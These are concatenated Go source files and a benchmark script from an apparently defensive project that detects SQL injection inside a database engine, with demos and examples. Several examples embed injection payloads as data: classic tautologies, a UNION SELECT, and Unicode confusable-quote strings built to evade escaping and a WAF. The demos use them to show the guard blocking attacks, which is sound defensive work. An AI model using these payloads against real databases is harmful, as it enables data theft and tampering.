	}, coreOpts...)

	// The wire layer enforces per-domain quotas and counts sheds against
	// the domain a session actually bound to; unknown applications land
	// on the default domain's controls, like the queries themselves.
	serverOpts = append(serverOpts, wire.WithOverloadControls(func(app string) *overload.Controls {
		if d, ok := guard.Domain(app); ok {
			return d.Overload()
		}
		if d, ok := guard.Domain(core.DefaultDomain); ok {
			return d.Overload()
		}
		return nil
	}))

	domainStores := map[string]string{}
	if *domains != "" {
		if domainStores, err = loadDomains(guard, *domains); err != nil {
			return err
		}
		// The HELLO handshake acknowledges the domain a session actually
		// binds to, consulting the guard's registry.
		serverOpts = append(serverOpts, wire.WithDomainResolver(func(app string) string {
			if d, ok := guard.Domain(app); ok {
				return d.Name()
			}
			return core.DefaultDomain
		}))
	}

	// Durability attaches AFTER the domains are registered (their
	// partitions must exist to replay into) and BEFORE the listener
	// opens (no query may mutate a store sink-less).
	var persist *core.Persistence
	if *walDir != "" {
		policy, err := wal.ParseFsyncPolicy(*walFsync)
		if err != nil {
			return err
		}
		persist, err = guard.AttachPersistence(core.PersistenceOptions{
			Dir:                *walDir,
			Fsync:              policy,
			CheckpointInterval: *checkpointInterval,
			ForceRecover:       *walForceRecover,
		})
		if err != nil {
			return err
		}
		pst := persist.Stats()
		fmt.Printf("septicd: wal %s (fsync=%s): %d record(s) replayed in %s",
			*walDir, policy, pst.RecoveredRecords, pst.RecoveryDuration.Round(time.Millisecond))
		if pst.TornSegments > 0 {
			fmt.Printf(", torn tail truncated (%d record(s) dropped)", pst.DroppedRecords)
		}
		if pst.RecoveredSkipped > 0 {
			fmt.Printf(", %d record(s) skipped (unknown domain?)", pst.RecoveredSkipped)
		}
		fmt.Println()
	}

	// Replication primary: with a WAL attached the server can stream it.
	// The handler rides the main port's HELLO handshake; -repl-listen
	// additionally opens a dedicated replication port.
	var primary *repl.Primary
	if persist != nil {
		primary = repl.NewPrimary(persist, repl.PrimaryOptions{})
		serverOpts = append(serverOpts, wire.WithReplHandler(primary.HandleConn))
	}
	if *replListen != "" && primary == nil {
		return fmt.Errorf("-repl-listen requires -wal-dir (the replication stream is the WAL)")
	}

	// Replica mode: attach the apply state AFTER persistence (the resume
	// position comes from the local WAL) and BEFORE the listener opens.
	var replica *repl.Replica
	if *replicateFrom != "" {
		rs, err := guard.AttachReplicaSource()
		if err != nil {
			return err
		}
		replica = repl.NewReplica(*replicateFrom, rs, repl.ReplicaOptions{})
		fmt.Printf("septicd: replica of %s, resuming after seq %d\n",
			*replicateFrom, rs.AppliedSeq())
	}

	engineOpts = append(engineOpts, engine.WithQueryHook(guard))
	db := engine.New(engineOpts...)
	srv := wire.NewServer(db, serverOpts...)
	bound, err := srv.Listen(*addr)
	if err != nil {
		return err
	}
	if *replListen != "" {
		replLn, err := net.Listen("tcp", *replListen)
		if err != nil {
			return fmt.Errorf("repl listen %s: %w", *replListen, err)
		}
		defer replLn.Close()
		go func() {
			if err := primary.Serve(replLn); err != nil && !errors.Is(err, net.ErrClosed) {
				fmt.Fprintln(os.Stderr, "septicd: repl server:", err)
			}
		}()
		fmt.Printf("septicd: replication on %s\n", replLn.Addr())
	}
	if replica != nil {
		replica.Start()
	}

	if hub != nil {
		qmDump := func(domain string) any {
			if domain == "" {
				domain = core.DefaultDomain
			}
			d, ok := guard.Domain(domain)
			if !ok {
				return nil
			}
			return d.Store().Dump()
		}
		obsLn, err := net.Listen("tcp", *obsAddr)
		if err != nil {
			return fmt.Errorf("obs listen %s: %w", *obsAddr, err)
		}
		// Readiness flips to 503 while the server drains or the admission
		// controller is persistently shedding, steering load balancers
		// away before clients see shed responses.
		ready := func() (bool, map[string]any) {
			draining := srv.Draining()
			shedding := adm.Shedding()
			return !draining && !shedding, map[string]any{
				"draining":    draining,
				"shedding":    shedding,
				"queue_depth": adm.Depth(),
				"sheds":       srv.Sheds(),
			}
		}
		obsSrv := &http.Server{Handler: obs.Handler(hub, qmDump, obs.WithHealth(ready))}
		go func() {
			if err := obsSrv.Serve(obsLn); err != nil && !errors.Is(err, http.ErrServerClosed) {
				fmt.Fprintln(os.Stderr, "septicd: obs server:", err)
			}
		}()
		defer obsSrv.Close()
		fmt.Printf("septicd: observability on http://%s (/metrics /events /qm /healthz /debug/pprof)\n",
			obsLn.Addr())
	}
	policy := "fail-closed"
	if *failOpen {
		policy = "fail-open"
	}
	fmt.Printf("septicd: listening on %s (mode=%s sqli=%t stored=%t policy=%s max-conns=%d)\n",
		bound, mode, *sqli, *stored, policy, *maxConns)

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGINT, syscall.SIGTERM)
	<-sig

	fmt.Println("\nsepticd: draining sessions")
	if replica != nil {
		replica.Close()
		if err := replica.Err(); err != nil {
			fmt.Fprintln(os.Stderr, "septicd: replication stream:", err)
		}
	}
	if primary != nil {
		primary.Close()
	}
	ctx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		if !errors.Is(err, context.DeadlineExceeded) {
			return err
		}
		fmt.Println("septicd: drain deadline exceeded, sessions force-closed")
	}
	if *modelPath != "" {
		if err := guard.Store().Save(*modelPath); err != nil {
			return fmt.Errorf("save models: %w", err)
		}
		fmt.Printf("septicd: saved %d query models to %s\n", guard.Store().Len(), *modelPath)
	}
	if err := saveDomains(guard, domainStores); err != nil {
		return err
	}
	if persist != nil {
		// A final checkpoint compacts the log so the next boot replays an
		// empty tail; then the log closes cleanly.
		if err := persist.Checkpoint(); err != nil {
			fmt.Fprintln(os.Stderr, "septicd: shutdown checkpoint:", err)
		}
		if err := persist.Close(); err != nil {
			fmt.Fprintln(os.Stderr, "septicd: wal close:", err)
		}
		pst := persist.Stats()
		fmt.Printf("septicd: wal: %d append(s), %d fsync(s), %d checkpoint(s)\n",
			pst.WAL.Appends, pst.WAL.Fsyncs, pst.Checkpoints)
	}
	stats := guard.Stats()
	fmt.Printf("septicd: %d queries seen, %d models learned, %d attacks (%d blocked)\n",
		stats.QueriesSeen, stats.ModelsLearned, stats.AttacksFound, stats.AttacksBlocked)
	for _, d := range guard.Domains() {
		if pending := d.Store().PendingReview(); len(pending) > 0 {
			fmt.Printf("septicd: domain %s: %d incrementally learned identifiers await review:\n",
				d.Name(), len(pending))
			for _, id := range pending {
				fmt.Println("  " + id)
			}
		}
	}
	return nil
}
