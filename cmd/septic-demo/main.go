// Command septic-demo runs the five phases of the DSN'17 demonstration
// (§IV) end to end and prints the displays the paper describes: the
// attack outcomes per phase, the SEPTIC event register, and the final
// mechanism comparison of phase E.
package main

import (
	"flag"
	"fmt"
	"os"

	"github.com/septic-db/septic/internal/attacks"
	"github.com/septic-db/septic/internal/demo"
)

func main() {
	verbose := flag.Bool("v", false, "also print the SEPTIC event register")
	flag.Parse()
	if err := run(*verbose); err != nil {
		fmt.Fprintln(os.Stderr, "septic-demo:", err)
		os.Exit(1)
	}
}

func run(verbose bool) error {
	fmt.Println("SEPTIC demonstration — scenario: WaspMon (PHP energy monitor) + MySQL-like engine")
	fmt.Printf("attack corpus: %d cases (%d exploiting the semantic mismatch), %d benign requests\n\n",
		len(attacks.Corpus()), attacks.MismatchCount(), len(attacks.Benign()))

	report, err := demo.Run()
	if err != nil {
		return err
	}

	fmt.Println("phase A — sanitization functions only (mysql_real_escape_string et al.)")
	executed := 0
	for _, o := range report.Outcomes {
		if o.ExecutedUnprotected {
			executed++
		}
	}
	fmt.Printf("  %d/%d attacks executed against the sanitized application\n\n",
		executed, len(report.Outcomes))

	fmt.Println("phase B — ModSecurity WAF enabled (mini OWASP CRS, paranoia 1)")
	det := report.DetectionCounts()
	fmt.Printf("  %d/%d attacks blocked; %d false negatives (the semantic-mismatch cases)\n\n",
		det["modsec"], len(report.Outcomes), len(report.Outcomes)-det["modsec"])

	fmt.Println("phase C — SEPTIC training")
	fmt.Printf("  %d query models learned from the benign crawl\n", report.ModelsLearned)
	fmt.Printf("  re-running the crawl added %d models (duplicates are never re-added)\n\n",
		report.RetrainAdded)

	fmt.Println("phase D — SEPTIC prevention mode")
	fmt.Printf("  %d/%d attacks blocked, %d false positives on benign traffic\n\n",
		det["septic"], len(report.Outcomes), report.FP.Septic)

	fmt.Print(report.Summary())

	if verbose {
		fmt.Println("\nSEPTIC events (register excerpt):")
		for _, e := range report.SepticEvents {
			fmt.Println("  " + e.String())
		}
	}
	return nil
}
