// Non-web client: the paper stresses that the semantic mismatch "is not
// restricted to web applications ... any class of applications that use
// a database as backend may be vulnerable" (§I). This example is a
// classic back-office batch job — no browser, no WAF anywhere in sight —
// importing invoice records from a CSV feed into the database through
// the wire protocol. The import code escapes its inputs diligently; one
// supplier record in the feed carries a confusable-quote payload, and
// only the SEPTIC inside the database server stands between it and the
// ledger.
package main

import (
	"encoding/csv"
	"errors"
	"fmt"
	"log"
	"strings"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/webapp"
	"github.com/septic-db/septic/internal/wire"
)

// feed is the incoming CSV: supplier, reference, amount. The third
// record is hostile: its "supplier" breaks out of the string context
// once MySQL decodes the confusable quotes — a tautology that would
// match (and in the follow-up UPDATE, approve) every pending invoice.
const feed = `supplier,reference,amount
Acme Tools,INV-1001,1250
Volt Supplies,INV-1002,890
evilʼ OR ʼ1ʼ=ʼ1,INV-9999,1
Brick & Mortar Co,INV-1003,4400
`

func main() {
	// The "DBA" side: a SEPTIC-protected database server.
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	srv := wire.NewServer(db)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	defer srv.Close()

	admin, err := wire.Dial(addr)
	if err != nil {
		log.Fatal(err)
	}
	defer admin.Close()
	setup := []string{
		`CREATE TABLE invoices (id INT PRIMARY KEY AUTO_INCREMENT,
			supplier TEXT, reference TEXT, amount INT, approved BOOL DEFAULT FALSE)`,
		// Train the two queries the batch job issues, with benign data.
		`INSERT INTO invoices (supplier, reference, amount) VALUES ('seed', 'INV-0', 1)`,
		`UPDATE invoices SET approved = TRUE WHERE supplier = 'seed' AND amount < 5000`,
	}
	for _, q := range setup {
		if _, err := admin.Exec(q); err != nil {
			log.Fatalf("%s: %v", q, err)
		}
	}
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: false,
	})
	fmt.Printf("septicd up on %s, %d query models trained, prevention on\n\n",
		addr, guard.Store().Len())

	// The batch job: a separate client, careful code, string building.
	client, err := wire.Dial(addr)
	if err != nil {
		log.Fatal(err)
	}
	defer client.Close()

	records, err := csv.NewReader(strings.NewReader(feed)).ReadAll()
	if err != nil {
		log.Fatal(err)
	}
	for _, rec := range records[1:] { // skip header
		supplier := webapp.MySQLRealEscapeString(rec[0])
		reference := webapp.MySQLRealEscapeString(rec[1])
		amount := rec[2]
		if !webapp.IsNumeric(amount) {
			fmt.Printf("skip %q: bad amount\n", rec[1])
			continue
		}
		insert := fmt.Sprintf(
			"INSERT INTO invoices (supplier, reference, amount) VALUES ('%s', '%s', %s)",
			supplier, reference, amount)
		if _, err := client.Exec(insert); err != nil {
			reportBlocked("import", rec[0], err)
			continue
		}
		// Auto-approve small invoices from this supplier.
		approve := fmt.Sprintf(
			"UPDATE invoices SET approved = TRUE WHERE supplier = '%s' AND amount < 5000",
			supplier)
		if _, err := client.Exec(approve); err != nil {
			reportBlocked("approve", rec[0], err)
			continue
		}
		fmt.Printf("imported %s from %q\n", rec[1], rec[0])
	}

	res, err := admin.Exec("SELECT COUNT(*) FROM invoices WHERE approved = TRUE")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\napproved invoices: %s (the hostile record approved nothing)\n", res.Rows[0][0])
	stats := guard.Stats()
	fmt.Printf("server stats: %d queries seen, %d attacks blocked\n",
		stats.QueriesSeen, stats.AttacksBlocked)
}

func reportBlocked(stage, supplier string, err error) {
	if errors.Is(err, engine.ErrQueryBlocked) {
		fmt.Printf("%s of %q BLOCKED by SEPTIC: %v\n", stage, supplier, err)
		return
	}
	fmt.Printf("%s of %q failed: %v\n", stage, supplier, err)
}
