// WaspMon scenario: the §III application — a PHP-style energy monitor
// with sanitized entry points — attacked first without protection, then
// behind the ModSecurity-like WAF, then with SEPTIC inside the DBMS.
// A compressed, runnable version of the five demo phases for one attack.
package main

import (
	"fmt"
	"log"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/waf"
	"github.com/septic-db/septic/internal/webapp"
	"github.com/septic-db/septic/internal/webapp/apps"
)

// theAttack is the U+02BC tautology: every byte passes
// mysql_real_escape_string and the WAF, yet the DBMS decodes the
// confusables into quotes and the WHERE clause becomes a tautology.
var theAttack = webapp.Request{Path: "/device/view", Params: map[string]string{
	"name": "nothingʼ OR ʼ1ʼ=ʼ1",
}}

func deploy(guard *core.Septic) *webapp.App {
	var db *engine.DB
	if guard != nil {
		db = engine.New(engine.WithQueryHook(guard))
	} else {
		db = engine.New()
	}
	for _, q := range apps.WaspMonSchema() {
		if _, err := db.Exec(q); err != nil {
			log.Fatal(err)
		}
	}
	app := apps.NewWaspMon(db)
	for _, req := range apps.WaspMonTraining() {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			log.Fatalf("training %s: %v", req, resp.Err)
		}
	}
	return app
}

func main() {
	// Phase A: sanitization only.
	fmt.Println("phase A — sanitized application, no other protection")
	app := deploy(nil)
	resp := app.Serve(theAttack.Clone())
	fmt.Printf("  attack status: %d; leaked device list:\n%s\n", resp.Status, indent(resp.Body))

	// Phase B: ModSecurity in front.
	fmt.Println("phase B — ModSecurity WAF (mini CRS) in front")
	app = deploy(nil)
	serve := waf.Protect(waf.New(), app)
	resp = serve(theAttack.Clone())
	if resp.Status == 403 {
		fmt.Println("  attack blocked by the WAF")
	} else {
		fmt.Printf("  FALSE NEGATIVE: status %d, the WAF saw nothing wrong\n", resp.Status)
		fmt.Printf("  leaked again:\n%s\n", indent(resp.Body))
	}

	// Phases C+D: SEPTIC trained, then prevention.
	fmt.Println("phase C — SEPTIC training on the benign crawl")
	guard := core.New(core.Config{Mode: core.ModeTraining})
	app = deploy(guard)
	fmt.Printf("  %d query models learned\n", guard.Store().Len())

	fmt.Println("phase D — SEPTIC prevention inside the DBMS")
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: false,
	})
	resp = app.Serve(theAttack.Clone())
	if resp.Blocked {
		fmt.Println("  attack BLOCKED — the query was dropped inside the DBMS")
		for _, e := range guard.Logger().Attacks() {
			fmt.Println("  event:", e.String())
		}
	} else {
		fmt.Printf("  attack not blocked: %+v\n", resp)
	}

	// And the application still works.
	ok := app.Serve(webapp.Request{Path: "/device/view", Params: map[string]string{"name": "oven"}})
	fmt.Printf("\nbenign request still fine (status %d):\n%s", ok.Status, indent(ok.Body))
}

func indent(s string) string {
	out := ""
	start := 0
	for i := 0; i <= len(s); i++ {
		if i == len(s) || s[i] == '\n' {
			if i > start {
				out += "    " + s[start:i] + "\n"
			}
			start = i + 1
		}
	}
	return out
}
