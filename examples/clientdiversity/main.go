// Client diversity: one SEPTIC-protected server, several concurrent
// clients of different kinds — the wire connector and a raw TCP client
// speaking the frame protocol by hand — none of which needed any
// configuration to be protected (§II-B: "no client configuration",
// "client diversity").
package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"log"
	"net"
	"sync"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/wire"
)

func main() {
	// Boot a protected server on an ephemeral port.
	guard := core.New(core.Config{
		Mode: core.ModeTraining,
	})
	db := engine.New(engine.WithQueryHook(guard))
	srv := wire.NewServer(db)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	defer srv.Close()
	fmt.Println("septicd listening on", addr)

	// Admin client sets up schema and trains the lookup query.
	admin, err := wire.Dial(addr)
	if err != nil {
		log.Fatal(err)
	}
	defer admin.Close()
	for _, q := range []string{
		"CREATE TABLE readings (id INT PRIMARY KEY AUTO_INCREMENT, sensor TEXT, watts INT)",
		"INSERT INTO readings (sensor, watts) VALUES ('oven', 2000), ('heatpump', 1200)",
		"SELECT watts FROM readings WHERE sensor = 'oven'",
	} {
		if _, err := admin.Exec(q); err != nil {
			log.Fatalf("%s: %v", q, err)
		}
	}
	guard.SetConfig(core.Config{Mode: core.ModePrevention, DetectSQLI: true, IncrementalLearning: true})
	fmt.Printf("trained %d models; switched to prevention\n\n", guard.Store().Len())

	var wg sync.WaitGroup

	// Client kind 1: several wire connectors in parallel, benign work.
	for i := 0; i < 3; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			c, err := wire.Dial(addr)
			if err != nil {
				log.Fatal(err)
			}
			defer c.Close()
			res, err := c.Exec("SELECT watts FROM readings WHERE sensor = 'heatpump'")
			if err != nil {
				log.Fatalf("client %d: %v", n, err)
			}
			fmt.Printf("wire client %d: heatpump draws %sW\n", n, res.Rows[0][0])
		}(i)
	}

	// Client kind 2: a wire connector sending an injection.
	wg.Add(1)
	go func() {
		defer wg.Done()
		c, err := wire.Dial(addr)
		if err != nil {
			log.Fatal(err)
		}
		defer c.Close()
		_, err = c.Exec("SELECT watts FROM readings WHERE sensor = 'x' OR 1=1-- '")
		if errors.Is(err, engine.ErrQueryBlocked) {
			fmt.Println("attacking client: BLOCKED by the server-side SEPTIC")
		} else {
			fmt.Println("attacking client: unexpected outcome:", err)
		}
	}()
	wg.Wait()

	// Client kind 3: a hand-rolled TCP client — no SDK at all — speaking
	// the frame protocol directly. Still protected, because protection
	// lives in the DBMS, not in any client library.
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		log.Fatal(err)
	}
	defer conn.Close()
	sendFrame(conn, map[string]string{"query": "SELECT watts FROM readings WHERE sensor = 'oven'"})
	fmt.Printf("raw TCP client: %s\n", recvFrame(conn))
	sendFrame(conn, map[string]string{"query": "SELECT watts FROM readings WHERE sensor = 'x' UNION SELECT id FROM readings-- '"})
	fmt.Printf("raw TCP attacker: %s\n", recvFrame(conn))

	stats := guard.Stats()
	fmt.Printf("\nserver stats: %d queries seen, %d attacks blocked\n",
		stats.QueriesSeen, stats.AttacksBlocked)
}

func sendFrame(conn net.Conn, msg any) {
	payload, err := json.Marshal(msg)
	if err != nil {
		log.Fatal(err)
	}
	var header [4]byte
	binary.BigEndian.PutUint32(header[:], uint32(len(payload)))
	if _, err := conn.Write(header[:]); err != nil {
		log.Fatal(err)
	}
	if _, err := conn.Write(payload); err != nil {
		log.Fatal(err)
	}
}

func recvFrame(conn net.Conn) string {
	var header [4]byte
	if _, err := readFull(conn, header[:]); err != nil {
		log.Fatal(err)
	}
	payload := make([]byte, binary.BigEndian.Uint32(header[:]))
	if _, err := readFull(conn, payload); err != nil {
		log.Fatal(err)
	}
	return string(payload)
}

func readFull(conn net.Conn, buf []byte) (int, error) {
	total := 0
	for total < len(buf) {
		n, err := conn.Read(buf[total:])
		total += n
		if err != nil {
			return total, err
		}
	}
	return total, nil
}
