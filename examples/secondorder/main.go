// Second-order walkthrough: reproduces §II-D1 of the paper with the
// exact tickets query of Fig. 2, printing the query structure (QS) and
// query model (QM) stacks the way the figures draw them, then running
// both attacks — the U+02BC second-order injection (Fig. 3, caught by
// the structural step) and the syntax-mimicry injection (Fig. 4, caught
// by the syntactical step).
package main

import (
	"errors"
	"fmt"
	"log"

	septic "github.com/septic-db/septic"
	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
)

const trainedQuery = "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234"

func main() {
	fmt.Println("== Fig. 2(a): query structure (QS), top of stack first ==")
	fmt.Println(trainedQuery)
	stmt, err := sqlparser.Parse(trainedQuery)
	if err != nil {
		log.Fatal(err)
	}
	qs := qstruct.BuildStack(stmt)
	fmt.Println(qs)

	fmt.Println("\n== Fig. 2(b): query model (QM) — data nodes blanked to ⊥ ==")
	qm := qstruct.ModelOf(qs)
	fmt.Println(qm)

	// Now the live system: train SEPTIC on the query, then attack.
	db, guard := septic.New(septic.Config{Mode: septic.ModeTraining})
	must := func(q string) {
		if _, err := db.Exec(q); err != nil {
			log.Fatalf("%s: %v", q, err)
		}
	}
	must("CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID TEXT, creditCard INT)")
	must("INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)")
	must(trainedQuery)
	guard.SetConfig(septic.Config{Mode: septic.ModePrevention, DetectSQLI: true})

	// --- Fig. 3: second-order with the Unicode prime ------------------
	// The database holds "ID34FGʼ-- " (stored earlier; the prime survived
	// escaping because mysql_real_escape_string does not know it). The
	// application reads it back and concatenates:
	attack1 := "SELECT * FROM tickets WHERE reservID = 'ID34FGʼ-- ' AND creditCard = 0"
	fmt.Println("\n== Fig. 3: second-order attack query (as received) ==")
	fmt.Println(attack1)
	decoded := sqlparser.DecodeCharset(attack1)
	fmt.Println("after MySQL charset decode:", decoded)
	if stmt, err := sqlparser.Parse(attack1); err == nil {
		fmt.Println("attacked QS (shrunk — the AND clause was commented away):")
		fmt.Println(qstruct.BuildStack(stmt))
	}
	_, err = db.Exec(attack1)
	report("second-order (Fig. 3)", err)

	// --- Fig. 4: syntax mimicry ----------------------------------------
	attack2 := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0"
	fmt.Println("\n== Fig. 4: syntax-mimicry attack query ==")
	fmt.Println(attack2)
	if stmt, err := sqlparser.Parse(attack2); err == nil {
		fmt.Println("attacked QS (same node count, INT_ITEM where FIELD_ITEM was):")
		fmt.Println(qstruct.BuildStack(stmt))
	}
	_, err = db.Exec(attack2)
	report("syntax mimicry (Fig. 4)", err)

	fmt.Println("\n== SEPTIC event register ==")
	for _, e := range guard.Logger().Attacks() {
		fmt.Println(e.String())
	}
}

func report(name string, err error) {
	if errors.Is(err, septic.ErrQueryBlocked) {
		fmt.Printf("%s: BLOCKED — %v\n", name, err)
		return
	}
	fmt.Printf("%s: NOT BLOCKED (err=%v)\n", name, err)
}
