// Quickstart: attach SEPTIC to a database, train it on the application's
// queries, switch to prevention, and watch an injection die while the
// equivalent benign query sails through.
package main

import (
	"errors"
	"fmt"
	"log"

	septic "github.com/septic-db/septic"
)

func main() {
	// A protected database: the engine with a SEPTIC Guard installed at
	// its pre-execution hook. Start in training mode.
	db, guard := septic.New(septic.Config{Mode: septic.ModeTraining})

	must := func(q string) *septic.Result {
		res, err := db.Exec(q)
		if err != nil {
			log.Fatalf("%s: %v", q, err)
		}
		return res
	}

	// Schema and data.
	must(`CREATE TABLE users (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT, pass TEXT)`)
	must(`INSERT INTO users (name, pass) VALUES ('ann', 'pw1'), ('bob', 'pw2')`)

	// Training: issue the application's query once with benign data so
	// SEPTIC learns its model.
	must(`SELECT id FROM users WHERE name = 'ann' AND pass = 'pw1'`)
	fmt.Printf("trained: %d query models learned\n", guard.Store().Len())

	// Switch to prevention (the demo restarts MySQL for this; here it is
	// one call).
	guard.SetConfig(septic.Config{Mode: septic.ModePrevention, DetectSQLI: true, DetectStored: true})

	// Benign login: same structure, different data — allowed.
	res := must(`SELECT id FROM users WHERE name = 'bob' AND pass = 'pw2'`)
	fmt.Printf("benign login: %d row(s)\n", len(res.Rows))

	// Injection: classic tautology through the name field.
	_, err := db.Exec(`SELECT id FROM users WHERE name = 'x' OR 1=1-- ' AND pass = 'y'`)
	if errors.Is(err, septic.ErrQueryBlocked) {
		fmt.Println("injection: BLOCKED —", err)
	} else {
		log.Fatalf("injection was not blocked: %v", err)
	}

	// The event register shows what happened.
	for _, e := range guard.Logger().Attacks() {
		fmt.Println("event:", e.String())
	}
	stats := guard.Stats()
	fmt.Printf("stats: %d queries seen, %d attacks blocked\n",
		stats.QueriesSeen, stats.AttacksBlocked)
}
