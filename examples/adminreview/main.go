// Administrator review walkthrough: the §II-E incremental-learning loop.
// In normal mode SEPTIC learns models for queries it has never seen —
// including, if the attacker gets there first, a poisoned one. The
// administrator reviews the pending list, approves the legitimate
// entries and rejects the poisoned one, restoring protection.
package main

import (
	"errors"
	"fmt"
	"log"

	septic "github.com/septic-db/septic"
)

func main() {
	db, guard := septic.New(septic.Config{
		Mode:                septic.ModePrevention,
		DetectSQLI:          true,
		DetectStored:        true,
		IncrementalLearning: true, // the convenient — and risky — setting
	})
	must := func(q string) *septic.Result {
		res, err := db.Exec(q)
		if err != nil {
			log.Fatalf("%s: %v", q, err)
		}
		return res
	}
	must(`CREATE TABLE accounts (id INT PRIMARY KEY AUTO_INCREMENT, owner TEXT, balance INT)`)
	must(`INSERT INTO accounts (owner, balance) VALUES ('ann', 1200), ('bob', 300)`)

	// Legitimate traffic arrives first for one query...
	must(`SELECT balance FROM accounts WHERE owner = 'ann'`)
	// ...but the attacker gets there first for another: the poisoned
	// shape is learned as if it were the application's.
	poisoned := `SELECT id FROM accounts WHERE owner = 'x' OR '1'='1'`
	must(poisoned)
	fmt.Println("attacker planted a model: the tautology shape now passes")
	must(poisoned) // passes silently against its own model

	// The administrator inspects the pending list.
	fmt.Println("\npending review:")
	var poisonedID string
	for _, u := range guard.Store().UsageReport() {
		marker := ""
		if u.Incremental {
			marker = "  [pending]"
		}
		fmt.Printf("  %-40s models=%d hits=%d%s\n", u.ID, u.Models, u.Hits, marker)
	}
	for _, e := range guard.Logger().Events() {
		if e.Query == poisoned {
			poisonedID = e.QueryID
		}
	}

	// Review: the balance lookup is the app's — approve. The tautology
	// is not — reject (its models are deleted).
	for _, id := range guard.Store().PendingReview() {
		if id == poisonedID {
			guard.Store().Delete(id)
			fmt.Println("\nrejected:", id)
		} else {
			guard.Store().Approve(id)
			fmt.Println("\napproved:", id)
		}
	}
	// Learning is switched off now that the application is mapped.
	guard.SetConfig(septic.Config{
		Mode: septic.ModePrevention, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: false,
	})

	// The legitimate query still works; the poisoned shape no longer has
	// a model and — crucially — its structural cousin against the
	// legitimate ID is detected.
	if _, err := db.Exec(`SELECT balance FROM accounts WHERE owner = 'bob'`); err != nil {
		log.Fatalf("legitimate query broken after review: %v", err)
	}
	fmt.Println("\nlegitimate lookup still works")
	_, err := db.Exec(`SELECT balance FROM accounts WHERE owner = 'x' OR '1'='1'`)
	if errors.Is(err, septic.ErrQueryBlocked) {
		fmt.Println("tautology against the lookup: BLOCKED —", err)
	} else {
		log.Fatalf("attack not blocked after review: %v", err)
	}
}
