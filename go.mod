module github.com/septic-db/septic

go 1.22
