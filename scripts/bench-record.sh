#!/usr/bin/env bash
# bench-record.sh — run the wire-protocol benchmarks (synchronous v1
# JSON baseline vs pipelined v2 binary frames) and record the numbers
# into BENCH_wire.json: per series ns/op, B/op, allocs/op and derived
# ops/sec, plus the depth-16-vs-sync speedup the ISSUE's acceptance
# floor (≥2×) is read off of. Then runs the durability ablation
# (BenchmarkTrainDurable: WAL off/never/interval/always) and records the
# per-policy cost of one acknowledged training update into
# BENCH_durability.json, with each policy's overhead factor over the
# no-WAL baseline. Finally runs the overload sweep (septic-bench
# overload: 1×/2×/4× capacity against the admission controller) which
# writes its own BENCH_overload.json with shed rates and admitted
# p50/p99 per point.
#
# Usage: scripts/bench-record.sh [output.json]
#   BENCHTIME=2s scripts/bench-record.sh    # longer sampling
set -euo pipefail
cd "$(dirname "$0")/.."

OUT="${1:-BENCH_wire.json}"
DUR_OUT="${DUR_OUT:-BENCH_durability.json}"
OVL_OUT="${OVL_OUT:-BENCH_overload.json}"
BENCHTIME="${BENCHTIME:-1s}"

RAW="$(go test -run='^$' -bench='BenchmarkWireSync$|BenchmarkWirePipelined' \
	-benchmem -benchtime="$BENCHTIME" -count=1 .)"
printf '%s\n' "$RAW"

printf '%s\n' "$RAW" | awk -v out="$OUT" -v benchtime="$BENCHTIME" '
BEGIN      { n = 0 }
/^goos:/   { goos = $2 }
/^goarch:/ { goarch = $2 }
/^cpu:/    { sub(/^cpu: /, ""); cpu = $0 }
/^Benchmark(WireSync|WirePipelined)/ {
	name = $1; sub(/-[0-9]+$/, "", name)
	names[n] = name; iters[n] = $2; ns[n] = $3
	bytes[n] = $5; allocs[n] = $7; n++
	if (name == "BenchmarkWireSync") sync_ns = $3
	if (name == "BenchmarkWirePipelined/depth=16") deep_ns = $3
}
END {
	if (n == 0) { print "bench-record: no benchmark lines parsed" > "/dev/stderr"; exit 1 }
	printf "{\n" > out
	printf "  \"goos\": \"%s\",\n  \"goarch\": \"%s\",\n  \"cpu\": \"%s\",\n", goos, goarch, cpu > out
	printf "  \"benchtime\": \"%s\",\n", benchtime > out
	if (sync_ns > 0 && deep_ns > 0)
		printf "  \"speedup_depth16_vs_sync\": %.2f,\n", sync_ns / deep_ns > out
	printf "  \"benchmarks\": [\n" > out
	for (i = 0; i < n; i++)
		printf "    {\"name\": \"%s\", \"iterations\": %s, \"ns_per_op\": %s, \"bytes_per_op\": %s, \"allocs_per_op\": %s, \"ops_per_sec\": %.0f}%s\n", \
			names[i], iters[i], ns[i], bytes[i], allocs[i], 1e9 / ns[i], (i < n - 1 ? "," : "") > out
	printf "  ]\n}\n" > out
}
'
echo "bench-record: wrote $OUT"

# Durability ablation: fixed iteration count rather than -benchtime, so
# the fsync=always series (hundreds of µs per op) finishes quickly while
# still sampling every policy identically.
DUR_RAW="$(go test -run='^$' -bench='BenchmarkTrainDurable' \
	-benchmem -benchtime=2000x -count=1 .)"
printf '%s\n' "$DUR_RAW"

